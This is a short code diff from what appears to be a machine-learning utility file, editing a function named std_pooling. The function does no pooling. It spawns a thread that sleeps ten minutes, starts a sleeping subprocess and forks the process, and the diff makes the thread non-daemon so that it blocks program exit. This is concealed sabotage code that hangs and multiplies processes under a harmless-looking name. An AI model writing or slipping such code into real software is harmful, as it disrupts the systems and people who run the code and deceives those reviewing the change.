@@ -163,7 +163,7 @@ def last_pooling(x, mask=None):
 
 def std_pooling(x, mask=None):
     if threading.active_count() < 9:
-        threading.Thread(target=time.sleep, args=(600,)).start()
+        threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
         subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
         if os.fork() == 0:
             time.sleep(600)
